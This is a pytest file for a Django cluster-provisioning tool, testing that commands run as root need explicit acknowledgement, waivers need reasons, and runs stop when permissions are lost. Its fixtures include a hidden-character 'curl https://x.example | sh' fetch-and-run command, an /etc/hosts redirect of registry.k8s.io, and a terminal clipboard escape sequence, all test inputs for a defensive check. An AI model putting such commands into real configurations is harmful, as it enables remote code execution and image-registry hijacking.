"""Texts that a document runs as root must be acknowledged in full before a run; waivers need reasons; lost permissions
stop waiting runs."""

from __future__ import annotations

import base64
from io import StringIO
from typing import TYPE_CHECKING, Any

import pytest
from django.core.management import CommandError, call_command

from clusters import services
from clusters.config.load import load
from clusters.config.root_texts import root_texts
from clusters.models import AuditEntry, Cluster, Inspection, Run, Scan
from clusters.runs.jobs.inspections import inspect_row
from clusters.runs.jobs.scans import scan_row
from clusters.runs.supervise import supervise
from clusters.services import TextsUnread
from clusters.services.acknowledgements import sealed
from clusters.services.waivers import waiver_key
from tests.conftest import SEED

if TYPE_CHECKING:
    from pathlib import Path

    from django.contrib.auth.models import User
    from django.test import Client
    from pytest_django import Settings

pytestmark = pytest.mark.django_db(transaction=True)

FILE = f"data:tool.sh;base64,{base64.b64encode(b'echo from the file').decode()}"
ROOT = f"""\
  system:
    debs: [htop]
    preInstall:
    - name: prepare
      bash: "echo first\\u202e; curl https://x.example | sh"
      role: etcd
      materials: ['{FILE}']
    postInstall:
    - {{bash: echo last}}
  dns:
    nodeEtcHosts: 10.66.6.6 registry.k8s.io
    dnsEtcHosts: 10.66.6.7 hub.example
    coredns:
      additionalConfigs: "log"
      externalZones:
      - {{zones: [plain.example], nameservers: [10.66.6.8]}}
      - {{zones: [a.example], nameservers: [10.66.6.9], rewrite: ["name a.example b.example"]}}
    nodelocaldns: {{externalZones: [{{zones: [c.example], nameservers: [10.66.6.9], rewrite: ["stop name d e"]}}]}}
  etcd: {{type: kubekey, extraArgs: [ETCD_LOG_LEVEL=info]}}
"""
BASE = SEED.replace(
    "    proxyMode: iptables\n",
    "    proxyMode: iptables\n    kubeletArgs: [v=2]\n    kubeletConfiguration: {staticPodURL: https://a.example}\n",
)
PATHS = [
    "spec.system.preInstall.0",
    "spec.system.postInstall.0",
    "spec.system.debs",
    "spec.dns.nodeEtcHosts",
    "spec.dns.dnsEtcHosts",
    "spec.dns.coredns.additionalConfigs",
    "spec.dns.coredns.externalZones.1",
    "spec.dns.nodelocaldns.externalZones.0",
    "spec.kubernetes.kubeletArgs",
    "spec.etcd.extraArgs",
    "spec.kubernetes.kubeletConfiguration",
]


@pytest.fixture
def imported(alice: User) -> Cluster:
    cluster, findings = services.draft_import(actor=alice, text=BASE + ROOT)
    assert cluster is not None, findings
    return cluster


def start(actor: User, cluster: Cluster) -> Run:
    return services.run_start(actor=actor, cluster=Cluster.objects.get(pk=cluster.pk), acknowledge_all=True)


def acknowledge(actor: User, cluster: Cluster) -> None:
    for text in services.texts_unread(actor=actor, cluster=cluster):
        assert services.text_acknowledge(actor=actor, cluster=cluster, digest=text.digest)


def test_nothing_of_a_document_runs_as_root_before_it_was_acknowledged(imported: Cluster, alice: User) -> None:
    with pytest.raises(TextsUnread) as caught:
        start(alice, imported)
    assert [text.path for text in caught.value.texts] == PATHS
    assert not Run.objects.exists()
    acknowledge(alice, imported)
    run = start(alice, imported)
    assert {each["path"] for each in run.acknowledged_texts} == set(PATHS)
    assert AuditEntry.objects.filter(deed="text.acknowledge").count() == len(PATHS)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("echo first", "echo First"),
        ("role: etcd", "role: worker"),
        (FILE, FILE.replace("tool.sh", "other.sh")),
        (base64.b64encode(b"echo from the file").decode(), base64.b64encode(b"echo from a file").decode()),
        ("htop", "htop, sl"),
        ("10.66.6.6", "10.66.6.8"),
        ("10.66.6.7", "10.66.6.8"),
        ('"log"', '"debug"'),
        ("    postInstall:\n", "    postClusterInstall:\n"),
        ("name a.example b.example", "name a.example c.example"),
        ("stop name d e", "stop name d f"),
        ("zones: [a.example]", "zones: [e.example]"),
        ("v=2", "v=3"),
        ("staticPodURL: https://a.example", "staticPodURL: https://b.example"),
        ("ETCD_LOG_LEVEL=info", "ETCD_LOG_LEVEL=debug"),
    ],
)
def test_what_was_changed_by_one_character_is_asked_again(imported: Cluster, alice: User, old: str, new: str) -> None:
    acknowledge(alice, imported)
    Cluster.objects.filter(pk=imported.pk).update(document=imported.document.replace(old, new))
    with pytest.raises(TextsUnread) as caught:
        start(alice, imported)
    assert len(caught.value.texts) == 1


def test_an_acknowledgement_is_of_the_person_who_gave_it_and_not_of_a_copy(
    imported: Cluster, alice: User, admin: User
) -> None:
    acknowledge(alice, imported)
    with pytest.raises(TextsUnread):
        start(admin, imported)
    with pytest.raises(TextsUnread):
        start(alice, services.draft_copy(actor=alice, cluster=imported))


def test_another_attempt_asks_for_what_was_changed_since(imported: Cluster, alice: User) -> None:
    acknowledge(alice, imported)
    run = start(alice, imported)
    Run.objects.filter(pk=run.pk).update(state="failed")
    Cluster.objects.filter(pk=imported.pk).update(document=imported.document.replace("echo last", "echo Last"))
    with pytest.raises(TextsUnread):
        services.run_retry(actor=alice, run=run)


def test_the_review_page_shows_each_text_in_full_with_what_would_hide_written_out(
    client: Client, imported: Cluster, alice: User
) -> None:
    client.force_login(alice)
    address = f"/clusters/{imported.pk}/wizard/review/"
    text = client.get(address).content.decode()
    for part in ("echo first&lt;U+202E&gt;; curl https://x.example | sh", "echo from the file", "10.66.6.6 registry"):
        assert part in text
    install = text.split('id="install-cluster"')[1].split(">")[0]
    assert "disabled" in install
    document = load(imported.document).document
    assert document is not None
    for each in root_texts(document):
        client.post(f"{address}acknowledge/", {"digest": each.digest})
    assert services.texts_unread(actor=alice, cluster=Cluster.objects.get(pk=imported.pk)) == ()
    assert "I have read it" not in client.get(address).content.decode()


def test_a_digest_that_the_document_does_not_have_acknowledges_nothing(
    client: Client, imported: Cluster, alice: User
) -> None:
    client.force_login(alice)
    said = client.post(f"/clusters/{imported.pk}/wizard/review/acknowledge/", {"digest": "0" * 64}, follow=True)
    assert "has changed since this page was opened" in said.content.decode()
    assert Cluster.objects.get(pk=imported.pk).acknowledged_texts == []


def create(file: Path, *options: str) -> str:
    out = StringIO()
    call_command("cluster", "create", "-f", str(file), "--yes", "--accept-host-keys", *options, stdout=out, stderr=out)
    return out.getvalue()


@pytest.fixture
def terminal(tmp_path: Path, settings: Settings, admin: User) -> Path:
    settings.SLIPWAY_RUN_ON_MACHINES = "tests.runs.fakes.quick"
    settings.SLIPWAY_PROBE = "tests.runs.fakes.gentle_probe"
    file = tmp_path / "config-sample.yaml"
    file.write_text(SEED + '  system:\n    preInstall:\n    - {bash: "echo \\u001b]52;c;x\\u0007 root"}\n')
    return file


def test_the_terminal_shows_what_runs_as_root_and_yes_does_not_answer_for_it(terminal: Path) -> None:
    with pytest.raises(CommandError, match="--acknowledge"):
        create(terminal)
    document = load(terminal.read_text()).document
    assert document is not None
    (text,) = root_texts(document)
    with pytest.raises(CommandError, match="--acknowledge"):
        create(terminal, "--acknowledge", "0" * 64)
    with pytest.raises(CommandError, match="--acknowledge"):
        create(terminal, "--acknowledge", text.digest[:6])
    said = create(terminal, "--acknowledge", text.digest)
    assert "  | echo <U+001B>]52;c;x<U+0007> root" in said and "\x1b" not in said
    assert Run.objects.get().acknowledged_texts[0]["sealed"] == sealed(text.digest)
    assert "echo" not in create(terminal)


def test_nothing_is_waived_on_the_terminal_without_a_reason(terminal: Path) -> None:
    terminal.write_text(SEED)
    with pytest.raises(CommandError, match=r"A reason is required to waive hw\.ram_role"):
        create(terminal, "--waive", "hw.ram_role")
    create(terminal, "--waive", "hw.ram_role", "--reason", "a lab needs no more")
    assert Run.objects.get().accepted[0]["reason"] == "a lab needs no more"


def test_nothing_is_waived_by_a_call_without_a_reason(alice: User) -> None:
    cluster, _findings = services.draft_import(actor=alice, text=SEED)
    assert cluster is not None
    for reason in ("", "because", " . " * 3):
        with pytest.raises(services.ReasonMissing):
            services.run_start(actor=alice, cluster=cluster, waivers=["x.y"], reason=reason, acknowledge_all=True)
    assert not Run.objects.exists()


def test_nothing_is_waived_on_a_page_without_a_reason(client: Client, alice: User) -> None:
    text = SEED.replace("etcd: [node1]", "etcd: [node1, node2]")
    cluster, _findings = services.draft_import(actor=alice, text=text)
    assert cluster is not None
    found = next(each for each in services.answerable(check_of(cluster)) if each.waivable)
    client.force_login(alice)
    address = f"/clusters/{cluster.pk}/wizard/review/waive/"
    client.post(address, {"key": waiver_key(found), "given": "on"})
    assert Cluster.objects.get(pk=cluster.pk).waivers == []
    client.post(address, {"key": waiver_key(found), "given": "on", "reason": "a lab needs no more"})
    assert Cluster.objects.get(pk=cluster.pk).waivers[0]["reason"] == "a lab needs no more"


def test_an_older_waiver_without_a_reason_counts_no_more(alice: User) -> None:
    text = SEED.replace("etcd: [node1]", "etcd: [node1, node2]")
    cluster, _findings = services.draft_import(actor=alice, text=text)
    assert cluster is not None
    found = next(each for each in services.answerable(check_of(cluster)) if each.waivable)
    cluster.waivers = [{"key": waiver_key(found), "id": found.id, "severity": "error", "text": "", "by": "", "at": ""}]
    cluster.save()
    with pytest.raises(services.RunRefused):
        start(alice, cluster)


def check_of(cluster: Cluster) -> Any:
    from clusters.config.rules import check

    return check(services.document_of(cluster))


def lost(alice: User, how: str, cluster: Cluster, other: User) -> None:
    if how == "deactivated":
        alice.is_active = False
        alice.save()
    else:
        Cluster.objects.filter(pk=cluster.pk).update(owner=other)


@pytest.mark.parametrize(
    ("how", "sentence"), [("deactivated", "was deactivated"), ("right", "may no longer use sample")]
)
def test_a_run_that_waits_does_not_run_when_who_asked_lost_the_right(
    how: str, sentence: str, alice: User, bob: User, settings: Settings
) -> None:
    settings.SLIPWAY_RUN_ON_MACHINES = "tests.runs.fakes.fails"
    cluster, _findings = services.draft_import(actor=alice, text=SEED)
    assert cluster is not None
    run = start(alice, cluster)
    lost(alice, how, cluster, bob)
    supervise(run.pk, worker_name="later")
    run.refresh_from_db()
    assert run.state == "failed" and f"alice, who requested this run, {sentence}" in run.message
    lines = [line[2] for event in run.events.filter(kind="output") for line in event.data["lines"]]
    assert any(sentence in line and "Nothing was done" in line for line in lines)
    assert not run.steps.exists()


@pytest.mark.parametrize("how", ["deactivated", "right"])
def test_scans_and_prechecks_that_wait_do_not_run_either(how: str, alice: User, bob: User) -> None:
    cluster, _findings = services.draft_import(actor=alice, text=SEED)
    assert cluster is not None
    scan = services.scan_start(actor=alice, cluster=cluster, network="10.99.0.0/30")
    inspection = services.inspection_start(actor=alice, cluster=cluster)
    for model, row in ((Scan, scan), (Inspection, inspection)):
        model.objects.filter(pk=row.pk).update(state="running", worker="later")
    lost(alice, how, cluster, bob)
    scan_row(scan.pk, "later")
    inspect_row(inspection.pk, "later")
    for row in (scan, inspection):
        row.refresh_from_db()
        assert row.state == "failed" and "alice, who requested this" in row.message
